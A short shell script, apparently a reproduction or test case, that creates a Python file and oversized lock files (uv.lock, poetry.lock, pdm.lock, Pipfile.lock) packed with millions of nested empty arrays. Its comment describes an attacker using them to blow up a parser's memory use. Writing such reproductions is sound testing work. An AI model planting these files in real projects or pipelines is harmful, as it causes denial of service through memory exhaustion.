# The attacker wants memory to be filled by the lock files: a megabyte of empty arrays becomes a hundred of them.
printf 'import asyncio\n\n\nasync def f():\n    asyncio.sleep(1)\n' > test_a.py
{
    printf 'version = 1\npackage = ['
    yes "[]," | head -n 2600000 | tr -d "\n"
    printf ']\n'
} > uv.lock
cp uv.lock poetry.lock
cp uv.lock pdm.lock
{
    printf '{"default": {"a": {"version": ['
    yes "[]," | head -n 2600000 | tr -d "\n"
    printf '[]]}}}'
} > Pipfile.lock
